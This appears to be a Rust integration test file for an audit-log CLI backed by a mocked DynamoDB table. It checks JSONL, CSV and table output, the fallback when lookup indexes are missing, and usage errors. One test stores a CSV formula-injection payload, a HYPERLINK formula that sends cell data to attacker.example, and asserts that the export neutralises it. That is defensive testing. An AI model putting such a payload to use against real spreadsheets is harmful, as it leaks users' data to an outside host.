//! Owns how lookups print (the model's item line, table and CSV), a table without the lookup
//! index, and the lookups' usage errors. Must not know how the rows are fetched.

use std::str::FromStr;

use serde_json::Value;

use crate::harness::*;
use crate::lookups::{Event, expected, is, structured_events, write_events, write_into};
use crate::support::http::Request;
use crate::support::*;

/// The item as moto stores it, in DynamoDB's JSON (a GetItem over plain HTTP, no SDK).
async fn raw_item(
    endpoint: &str,
    message_id: &str,
    audit_time: &str,
) -> serde_json::Map<String, Value> {
    let body = serde_json::json!({
        "TableName": TABLE,
        "Key": {"messageId": {"S": message_id}, "auditTime": {"S": audit_time}},
    });
    let request = Request {
        method: "POST".into(),
        path: "/".into(),
        target: "DynamoDB_20120810.GetItem".into(),
        headers: vec![
            ("Host".into(), endpoint.trim_start_matches("http://").into()),
            ("Content-Type".into(), "application/x-amz-json-1.0".into()),
            ("X-Amz-Target".into(), "DynamoDB_20120810.GetItem".into()),
            (
                "Authorization".into(),
                "AWS4-HMAC-SHA256 Credential=test/20261122/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0".into(),
            ),
        ],
        body: Vec::new(),
    };
    let upstream = endpoint.trim_start_matches("http://");
    let (status, _, answer) = forward(upstream, &request, body.to_string().as_bytes()).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&answer));
    let answer: Value = serde_json::from_slice(&answer).unwrap();
    answer["Item"].as_object().cloned().expect("the item")
}

#[tokio::test]
async fn jsonl_prints_the_models_item_line_of_the_stored_item_in_a_lookup_a_time_query_and_get() {
    let moto = Moto::start();
    let mut events = structured_events();
    events.retain(|e| e.id.ends_with("-23-00") || e.id.starts_with("tie-a-23"));
    write_events(&moto, &events).await;
    // An item with extra of every JSON type, written through the function too.
    let handler = handler(&moto.endpoint, TABLE, settings());
    let body = serde_json::json!({
        "messageId": "rich-1", "auditTime": "2026-11-23T12:00:00+02:00", "actor": "alice",
        "action": "invoice.delete", "sourceIp": "2001:DB8::1", "outcome": "success",
        "nested": {"list": [1, 2.50, "x", true, null, {"deep": BIG}]},
        "amount": serde_json::Number::from_str("0.000100").unwrap(),
        "text": "quote \" backslash \\ tab \t é 日本",
    });
    let response = handler
        .handle(event(vec![record("sqs-rich-1", &body.to_string())]))
        .await
        .unwrap();
    assert!(failed(&response).is_empty());

    let line = audit_model::line::item_line(
        &raw_item(&moto.endpoint, "rich-1", "2026-11-23T10:00:00.000Z").await,
    );
    assert!(line.contains(r#""sourceIp":"2001:db8::1""#), "{line}");
    assert!(line.contains(r#""amount":0.000100"#), "{line}");
    let find = |text: &str| -> String {
        text.lines()
            .find(|l| l.contains(r#""messageId":"rich-1""#))
            .unwrap_or_else(|| panic!("{text}"))
            .to_owned()
    };
    let from_lookup = ok(auditctl(
        &moto.endpoint,
        &[
            "query",
            "--actor",
            "alice",
            "--from",
            "2026-11-23T00:00:00Z",
            "--to",
            "2026-11-23T23:59:59Z",
            "--format",
            "jsonl",
        ],
        &[],
    ));
    assert_eq!(find(&from_lookup), line, "lookup");
    let from_time_query = ok(auditctl(
        &moto.endpoint,
        &[
            "query",
            "--from",
            "2026-11-23T00:00:00Z",
            "--to",
            "2026-11-23T23:59:59Z",
            "--format",
            "jsonl",
        ],
        &[],
    ));
    assert_eq!(find(&from_time_query), line, "time query");
    let from_get = ok(auditctl(
        &moto.endpoint,
        &["get", "rich-1", "--format", "jsonl"],
        &[],
    ));
    // get's line is the model's, with whether the receiver attested the item last (no key
    // given here: not checked).
    let attested = format!(
        "{},\"attested\":\"not checked\"}}\n",
        line.strip_suffix('}').unwrap()
    );
    assert_eq!(from_get, attested, "get");
    // Every line of the lookup is the model's line of its stored item.
    for row in from_lookup.lines() {
        let value: Value = serde_json::from_str(row).unwrap();
        let stored = raw_item(
            &moto.endpoint,
            value["messageId"].as_str().unwrap(),
            value["auditTime"].as_str().unwrap(),
        )
        .await;
        assert_eq!(row, audit_model::line::item_line(&stored));
    }
}

#[tokio::test]
async fn a_csv_export_runs_no_formula_a_producer_wrote_and_jsonl_keeps_the_value_exactly() {
    let moto = Moto::start();
    let actor = r#"=HYPERLINK("http://attacker.example/?d="&A1,"open")"#;
    write_events(
        &moto,
        &[Event {
            id: "formula-1".into(),
            time: "2026-11-23T12:00:00Z".into(),
            actor: Some(actor.into()),
            action: Some("+user.login".into()),
            resource: Some("@invoice/1".into()),
            outcome: Some("success"),
            source_ip: None,
        }],
    )
    .await;
    let range = [
        "--from",
        "2026-11-23T12:00:00Z",
        "--to",
        "2026-11-23T12:00:00Z",
    ];
    let csv = ok(auditctl(
        &moto.endpoint,
        &[&["query", "--format", "csv"][..], &range].concat(),
        &[],
    ));
    let row = csv.split("\r\n").nth(1).unwrap_or_else(|| panic!("{csv}"));
    assert!(
        row.contains(r#","'=HYPERLINK(""http://attacker.example/?d=""&A1,""open"")","#),
        "the actor's cell starts with a quote: {row}"
    );
    assert!(row.contains(",'+user.login,'@invoice/1,"), "{row}");
    assert!(
        !row.contains(",=") && !row.contains(",\"=") && !row.contains(",+") && !row.contains(",@"),
        "{row}"
    );
    let jsonl = ok(auditctl(
        &moto.endpoint,
        &[&["query", "--format", "jsonl"][..], &range].concat(),
        &[],
    ));
    let value: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(value["actor"], actor);
    assert_eq!(value["action"], "+user.login");
}

#[tokio::test]
async fn table_and_csv_show_who_did_what_to_what_and_get_shows_them_too() {
    let moto = Moto::start();
    let events = structured_events();
    write_events(&moto, &events).await;
    let range = [
        "--from",
        "2026-11-23T12:00:00Z",
        "--to",
        "2026-11-23T12:00:00Z",
    ];
    let csv = ok(auditctl(
        &moto.endpoint,
        &[
            &["query", "--actor", "alice", "--format", "csv"][..],
            &range,
        ]
        .concat(),
        &[],
    ));
    let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(
        lines[0],
        "auditTime,messageId,actor,senderId,originalSenderId,action,resource,outcome,sourceIp,auditText,sqsMessageId,sentAt,receivedAt,receiveCount,eventSource,extra"
    );
    assert_eq!(lines.len(), 1 + 4);
    let fields: Vec<&str> = lines[1].split(',').collect();
    assert_eq!(
        [&fields[..3], &fields[5..11]].concat(),
        [
            "2026-11-23T12:00:00.000Z",
            "tie-a-23",
            "alice",
            "invoice.delete",
            "invoice/1",
            "failure",
            "2001:db8::1",
            "",
            "sqs-tie-a-23"
        ],
        "{}",
        lines[1]
    );

    let table = ok(auditctl(
        &moto.endpoint,
        &[&["query"][..], &range].concat(),
        &[],
    ));
    let lines: Vec<&str> = table.lines().collect();
    for column in [
        "actor",
        "action",
        "resource",
        "outcome",
        "sourceIp",
        "auditText",
    ] {
        assert!(
            lines[0].contains(&format!("| {column} ")),
            "{column}: {}",
            lines[0]
        );
    }
    let tie = lines.iter().find(|l| l.contains("tie-a-23")).unwrap();
    assert!(
        tie.contains("| alice ")
            && tie.contains("| invoice.delete ")
            && tie.contains("| 2001:db8::1 "),
        "{tie}"
    );
    let width = lines[0].chars().count();
    assert!(lines.iter().all(|l| l.chars().count() == width), "{table}");

    let get = ok(auditctl(&moto.endpoint, &["get", "tie-a-23"], &[]));
    assert!(
        get.contains("| alice ") && get.contains("| failure "),
        "{get}"
    );
}

#[tokio::test]
async fn a_table_without_a_lookup_index_answers_it_from_the_time_index_over_the_range_asked() {
    // Deployed with LookupIndexes=action: no byActor, no byResource.
    let moto = Moto::start();
    create_table_indexed(&moto.client(), TABLE, true, &["byAction"]).await;
    let events = structured_events();
    write_into(&moto, &events).await;
    let range = [
        "--from",
        "2026-11-22T00:00:00Z",
        "--to",
        "2026-11-24T23:59:59.999Z",
        "--format",
        "jsonl",
    ];
    // (arguments, the index missing, its field, the rows expected)
    type Case<'a> = (&'a [&'a str], &'a str, &'a str, Vec<(String, String)>);
    let cases: [Case; 3] = [
        (
            &["--actor", "alice"],
            "byActor",
            "actor",
            expected(&events, |e| is(&e.actor, "alice")),
        ),
        (
            &["--resource", "invoice/1", "--outcome", "failure"],
            "byResource",
            "resource",
            expected(&events, |e| {
                is(&e.resource, "invoice/1") && e.outcome == Some("failure")
            }),
        ),
        (
            &[
                "--actor",
                "alice",
                "--action",
                "user.login",
                "--by",
                "actor",
            ],
            "byActor",
            "actor",
            expected(&events, |e| {
                is(&e.actor, "alice") && is(&e.action, "user.login")
            }),
        ),
    ];
    for (args, index, field, wanted) in cases {
        assert!(!wanted.is_empty(), "{args:?}");
        let output = auditctl(
            &moto.endpoint,
            &[&["query"][..], args, &range].concat(),
            &[],
        );
        assert!(output.status.success(), "{args:?}: {}", stderr(&output));
        assert_eq!(keys(&jsonl(&stdout(&output))), wanted, "{args:?}");
        assert!(
            stderr(&output).contains(&format!(
                "warning: table {TABLE} has no index {index} (LookupIndexes leaves out {field}): reading every event from 2026-11-22T00:00:00"
            )) && stderr(&output).contains(&format!(
                "deploy template.yaml with LookupIndexes naming {field} for a lookup that reads only them"
            )),
            "{args:?}: {}",
            stderr(&output)
        );
    }
    // The index that is there is read, without a word.
    let output = auditctl(
        &moto.endpoint,
        &[&["query", "--action", "invoice.delete"][..], &range].concat(),
        &[],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(
        keys(&jsonl(&stdout(&output))),
        expected(&events, |e| is(&e.action, "invoice.delete"))
    );
    assert!(!stderr(&output).contains("warning"), "{}", stderr(&output));
    // No --from: the lookup's 30 days were not asked for; reading them all is not done unasked.
    for (flag, index, field) in [
        ("--actor", "byActor", "actor"),
        ("--resource", "byResource", "resource"),
    ] {
        let output = auditctl(&moto.endpoint, &["query", flag, "x"], &[]);
        assert_eq!(output.status.code(), Some(1));
        assert!(
            stderr(&output).contains(&format!(
                "table {TABLE} has no index {index} (LookupIndexes leaves out {field}) and this lookup has no --from: give --from (and --to) to read every event of that range from the time index and keep those of that {field}, or deploy template.yaml with LookupIndexes naming {field}"
            )),
            "{}",
            stderr(&output)
        );
        assert!(stdout(&output).is_empty());
    }
}

#[tokio::test]
async fn lookup_usage_errors_exit_2_and_name_the_fix() {
    // Nothing is asked of the endpoint: usage is checked first.
    let endpoint = "http://127.0.0.1:9";
    let range = [
        "query",
        "--from",
        "2026-11-22T00:00:00Z",
        "--to",
        "2026-11-23T00:00:00Z",
    ];
    let cases: [(&[&str], &str); 7] = [
        (
            &["--actor", "alice", "--resource", "invoice/1"],
            "--actor and --resource given: say which index to read with --by actor or --by resource",
        ),
        (
            &["--actor", "alice", "--by", "action"],
            "--by action needs --action VALUE",
        ),
        (&["--actor", ""], "--actor is empty"),
        (
            &["--source-ip", "2001:db8::1%eth0"],
            "invalid value '2001:db8::1%eth0' for '--source-ip <IP>': not an IPv4 or IPv6 address",
        ),
        (
            &["--source-ip", "192.0.2.300"],
            "not an IPv4 or IPv6 address",
        ),
        (
            &["--actor", "alice", "--outcome", "failed"],
            "invalid value 'failed' for '--outcome <OUTCOME>': one of success, failure, unknown",
        ),
        (
            &["--actor", "a", "--by", "everything"],
            "invalid value 'everything' for '--by <INDEX>'",
        ),
    ];
    for (args, message) in cases {
        let output = auditctl(endpoint, &[&range[..], args].concat(), &[]);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{args:?}: {}",
            stderr(&output)
        );
        assert!(
            stderr(&output).contains(message),
            "{args:?}: {}",
            stderr(&output)
        );
    }
}
